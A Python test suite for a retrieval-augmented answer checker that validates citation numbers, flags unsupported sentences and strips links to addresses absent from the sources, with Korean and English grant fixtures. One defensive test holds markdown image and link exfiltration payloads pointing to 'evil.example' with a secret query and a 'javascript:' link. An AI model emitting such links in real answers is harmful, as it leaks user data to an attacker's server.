"""Source numbers held against the passages that were presented."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backend.core.graph.citation import check, without_foreign_links
from backend.core.graph.passage_prompt import MAX_PROMPT_CHARS, PromptPassage, parse, presented, render

PASSAGES = {1: "접수는 온라인으로만 하며 마감은 3월 20일입니다.", 2: "The grant is up to 100 million won per team."}


@pytest.mark.parametrize(
    ("answer", "text", "cited"),
    [
        ("마감은 3월 20일입니다. [1]", "마감은 3월 20일입니다. [1]", [1]),
        ("마감은 3월 20일입니다 [1].", "마감은 3월 20일입니다 [1].", [1]),
        ("The grant is up to 100 million won [2][1].", "The grant is up to 100 million won [2][1].", [2, 1]),
        ("금액과 마감 [1, 2]", "금액과 마감 [1][2]", [1, 2]),
        ("금액과 마감 [1, 3]", "금액과 마감 [1]", [1]),
        ("금액 [3].", "금액.", []),
        ("금액 [0] 과 [99]", "금액 과", []),
        ("배열 a[1]과 [x], [1.5]는 그대로", "배열 a[1]과 [x], [1.5]는 그대로", [1]),
        ("", "", []),
    ],
)
def test_numbers_that_no_passage_has_are_taken_out(answer, text, cited):
    verdict = check(answer, PASSAGES)
    assert (verdict.text, verdict.cited) == (text, cited)


@pytest.mark.parametrize(
    ("answer", "unsupported"),
    [
        ("온라인 접수의 마감은 3월 20일이에요. [1]", []),
        ("Each team gets a grant of up to 100 million won. [2]", []),
        ("You get a grant of 100 million won. [1]", []),  # cites a passage in another language: cannot be compared
        ("네, 그렇습니다.", []),
        ("서울시청 본관에서 면접 심사를 진행합니다. [1]", ["서울시청 본관에서 면접 심사를 진행합니다. [1]"]),
        (
            "접수 마감은 3월 20일입니다. [1]\n합격자에게는 제주도 항공권을 지급합니다.",
            ["합격자에게는 제주도 항공권을 지급합니다."],
        ),
    ],
)
def test_sentences_whose_words_the_passages_do_not_have_are_flagged(answer, unsupported):
    assert check(answer, PASSAGES).unsupported == unsupported


@given(st.text(alphabet=st.sampled_from("[]0123456789, .\n가a")))
def test_whatever_the_model_writes_only_presented_passages_are_cited(answer):
    verdict = check(answer, PASSAGES)
    assert set(verdict.cited) <= {1, 2}
    assert check(verdict.text, PASSAGES).text == verdict.text


@pytest.mark.parametrize(
    ("answer", "kept"),
    [
        ("![시계](https://evil.example/?q=secret) 마감", "시계 마감"),
        ("![시계](https://gov.example/a.png)", "시계"),
        ("[신청](https://evil.example/?q=secret) [1]", "신청 [1]"),
        ('[신청](<https://evil.example/x> "title")', "신청"),
        ("[신청](https://gov.example/apply) [1]", "[신청](https://gov.example/apply) [1]"),
        ("[신청](javascript:alert)", "신청"),
        ("a[1](b) 함수 f(x)", "a1 함수 f(x)"),
        ("링크 없음 [1]", "링크 없음 [1]"),
    ],
)
def test_an_address_that_no_source_has_does_not_stay_in_the_answer(answer, kept):
    assert without_foreign_links(answer, ["신청: https://gov.example/apply 에서"]) == kept


WRITTEN = st.text(st.characters(exclude_categories=["Cs"]), max_size=60)


@given(question=WRITTEN, passages=st.lists(st.tuples(WRITTEN, WRITTEN), max_size=4))
def test_what_a_prompt_shows_is_read_back_as_it_was_whatever_it_says(question, passages):
    shown = [PromptPassage(index, title, text) for index, (title, text) in enumerate(passages, 1)]
    assert parse(render(question, shown)) == (question, shown)


def test_the_passages_of_a_prompt_are_bounded():
    documents = [{"title": "t", "path": [], "text": "가" * 100_000} for _ in range(50)]
    shown = presented(documents)
    assert sum(len(passage.text) for passage in shown) <= MAX_PROMPT_CHARS
    assert [passage.index for passage in shown] == [1, 2, 3, 4]
